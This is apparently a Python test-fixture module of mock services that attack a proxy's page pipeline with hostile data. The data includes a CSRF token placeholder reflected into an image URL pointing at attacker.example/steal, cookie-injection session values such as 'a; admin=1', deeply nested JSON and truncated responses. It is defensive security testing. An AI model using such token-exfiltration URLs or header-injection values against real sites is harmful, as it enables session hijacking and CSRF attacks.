"""Services whose data attacks the proxy's page pipeline (issue 15), on real sockets.

Kept apart from `services.py` (the demo service others extend): each service here carries
one kind of hostile or odd data — the CSRF placeholder in user data, session values shaped
like cookies, unusual upload names, answers nested too deep to decode.
"""

from __future__ import annotations

import json
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from plugit import Service
from plugit.protocol import CSRF_TOKEN_PLACEHOLDER
from plugit.settings import Settings
from plugit.utils import PlugItSetSession, cache, get_session_from_request, json_only

from .services import BASE, answer_lifespan, write_files

# A poll titled with the placeholder, and a reflected image pointing at an attacker.
LEAKY_TITLE = CSRF_TOKEN_PLACEHOLDER
LEAKY_IMAGE = "https://attacker.example/steal?t=" + CSRF_TOKEN_PLACEHOLDER

POLL_TEMPLATE = (
    BASE
    + """{% block content %}<h1 id="title">{{ title }}</h1>
<img id="img" src="{{ image }}">
<form id="vote" method="post" action="{{ ebuio_baseUrl }}vote">{% csrf_token %}</form>
<script id="js">var token = "{{ csrf_token }}";</script>
{% endblock %}"""
)

TEMPLATES = {
    "poll.html": POLL_TEMPLATE,
    "voted.html": BASE + "{% block content %}voted{% endblock %}",
}

# Session values a service may legitimately store, shaped to add cookies if sent raw.
COOKIE_SHAPED = {
    "UserId": "42",
    "Filter": "a; admin=1",
    "Pair": "x,y=z",
    "Plain": "blue",
}


def build_hostile_service(root: str) -> Service:
    """A poll service whose data holds the CSRF placeholder, and session and upload echoes."""
    write_files(root, TEMPLATES)
    svc = Service(root=root, settings=Settings(meta_cache=300))

    @svc.action("/poll", template="poll.html")
    def poll(request: Any) -> dict[str, Any]:
        return {"title": LEAKY_TITLE, "image": LEAKY_IMAGE}

    @svc.action("/cached_poll", template="poll.html")
    @cache(time=60, byUser=False)
    def cached_poll(request: Any) -> dict[str, Any]:
        return {"title": LEAKY_TITLE, "image": LEAKY_IMAGE}

    @svc.action("/vote", template="voted.html", methods=["POST"])
    def vote(request: Any) -> dict[str, Any]:
        return {}

    @svc.action("/store")
    @json_only()
    def store(request: Any) -> Any:
        return PlugItSetSession({"stored": True}, COOKIE_SHAPED)

    @svc.action("/read")
    @json_only()
    def read(request: Any) -> Any:
        return {"session": get_session_from_request(request), "cookies": dict(request.cookies)}

    @svc.action("/upload", methods=["POST"])
    @json_only()
    def upload(request: Any) -> Any:
        return {
            "files": {name: request.files[name].filename for name in request.files},
            "form": {name: request.form.get(name) for name in request.form},
        }

    return svc


PROXIED_PAGE = f"""<h1 id="title">{CSRF_TOKEN_PLACEHOLDER}</h1>
<img id="img" src="https://attacker.example/steal?t={CSRF_TOKEN_PLACEHOLDER}">
<a id="link" href="/x?t={CSRF_TOKEN_PLACEHOLDER}">x</a>
<script id="js">var t = "{CSRF_TOKEN_PLACEHOLDER}";</script>
<meta name="csrf-token" content="{CSRF_TOKEN_PLACEHOLDER}">
<form method="post"><input type="hidden" name="csrfmiddlewaretoken"
 value="{CSRF_TOKEN_PLACEHOLDER}"></form>"""


class ProxiedRecorder:
    """A proxy-mode service under the prefix `/svc/` recording every path it is asked for."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.app = Starlette(
            routes=[
                Route("/svc/leaky", self.leaky),
                Route("/svc/leaky_bare", self.leaky_bare),
                Route("/svc/{rest:path}", self.anything, methods=["GET", "POST"]),
            ]
        )

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            self.paths.append(scope["path"])
        await self.app(scope, receive, send)

    async def leaky(self, request: Request) -> Response:
        return HTMLResponse(PROXIED_PAGE)

    async def leaky_bare(self, request: Request) -> Response:
        return HTMLResponse(PROXIED_PAGE, headers={"EbuIo-PlugIt-NoTemplate": "1"})

    async def anything(self, request: Request) -> Response:
        return HTMLResponse(f"<p id='seen'>{request.method} {request.url.path}</p>")


def deep_json_service(depth: int = 2000) -> ASGIApp:
    """A service whose meta is fine and whose action answers JSON nested `depth` deep."""
    deep = b"[" * depth + b"]" * depth

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await answer_lifespan(receive, send)
            return
        path: str = scope["path"]
        if path.startswith("/meta"):
            body = b'{"template_tag": "t"}'
        elif path.startswith("/template"):
            body = b"<p>{{ data }}</p>"
        else:
            body = deep
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    return app


def long_tag_service(tag: str = "t" * 300 + " :\u00e9") -> ASGIApp:
    """A service whose meta announces a template tag far longer than a cache key may be."""
    meta = json.dumps({"template_tag": tag}).encode()

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await answer_lifespan(receive, send)
            return
        path: str = scope["path"]
        if path.startswith("/meta"):
            body = meta
        elif path.startswith("/template"):
            body = b"<p id='word'>{{ word }}</p>"
        else:
            body = b'{"word": "fine"}'
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    return app


def hanging_up_service() -> ASGIApp:
    """A service that starts its answer and hangs up halfway through the body."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "lifespan":
            await answer_lifespan(receive, send)
            return
        headers = [(b"content-type", b"application/json"), (b"content-length", b"100")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b'{"template_tag"', "more_body": True})
        raise RuntimeError("hung up")  # uvicorn closes the connection mid-body

    return app
